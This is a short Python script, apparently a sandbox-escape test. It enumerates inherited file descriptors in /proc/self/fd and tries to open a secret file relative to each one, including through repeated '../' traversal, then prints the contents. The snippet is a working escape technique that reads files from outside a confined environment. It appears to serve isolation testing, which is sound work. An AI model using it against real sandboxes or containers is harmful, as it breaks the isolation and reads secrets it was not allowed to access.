"""Use a directory that the host left open."""

from __future__ import annotations

import os

from inside import W

for entry in os.listdir("/proc/self/fd"):
    for up in ("", "../" * 12):
        try:
            inner = os.open(up + W["secret"].lstrip("/"), os.O_RDONLY, dir_fd=int(entry))
            print(os.read(inner, 200))
        except OSError:
            pass
